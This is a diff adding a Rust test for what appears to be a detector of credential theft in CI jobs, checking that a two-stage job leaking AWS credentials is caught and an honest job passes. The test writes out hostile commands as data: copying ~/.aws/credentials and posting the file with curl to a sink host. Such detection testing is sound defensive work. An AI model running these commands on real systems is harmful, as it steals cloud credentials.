@@ -2,11 +2,12 @@
 
 use detector::{engine::Verdict, event::Body};
 use detector_tests::{
-    daemon::{Alone, Daemon, Judged, Runner},
+    daemon::{Alone, Daemon, Judged, Runner, Service},
     run::detector,
     scene::Scene,
 };
 use std::{
+    collections::BTreeSet,
     io::{Read as _, Write as _},
     os::unix::net::UnixStream,
     process::Command,
@@ -190,6 +191,35 @@ fn a_runner_may_have_a_policy_of_its_own() -> Result {
     assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Fail);
     own.job(&scene, &[THEFT])?.wait()?;
     assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Pass);
+    Ok(())
+}
+
+/// A service that runs jobs one after another: when it has had nothing to do for a while, the next one begins.
+#[test]
+fn a_service_has_a_job_each_time_it_is_busy() -> Result {
+    let (alone, scene) = (Alone::wait()?, Scene::new()?);
+    let mut daemon = Daemon::start_with(alone, &scene.network.job, BUILTIN, "enforce", |_| Ok("idle: 1\n".to_owned()))?;
+    let mut service = Service::start(&scene)?;
+    daemon.wait_for("began: GitLab CI worker")?;
+    // Stages of one job: what the first leaves the second has.
+    service.run("cp ~/.aws/credentials stage; true")?;
+    service.run("sleep 1.5; curl -s --max-time 5 -o /dev/null --data-binary @stage http://$SINK/x; true")?;
+    let first = daemon.next_job()?;
+    assert_eq!(leaks(&first), [2], "{:#?}", first.conclusion.findings);
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    first.assert_replays()?;
+    service.run(HONEST)?;
+    let second = daemon.next_job()?;
+    assert_eq!(second.conclusion.verdict, Verdict::Pass, "{:#?}", second.conclusion);
+    assert!(second.conclusion.findings.is_empty() && second.number != first.number);
+    let steps: BTreeSet<_> = second.recording.events.iter().filter_map(|e| Some(e.actor?.step)).collect();
+    assert_eq!(steps, [0, 1].into(), "the service is of step 0, and steps are each job's own");
+    second.assert_replays()?;
+    // It waits for a third one, which does not come: that is no job.
+    drop(service);
+    let (status, said) = daemon.end()?;
+    assert_eq!(status, Some(0));
+    assert_eq!(said.iter().filter(|line| line.contains(" ended: ")).count(), 2, "{said:#?}");
     Ok(())
 }
 
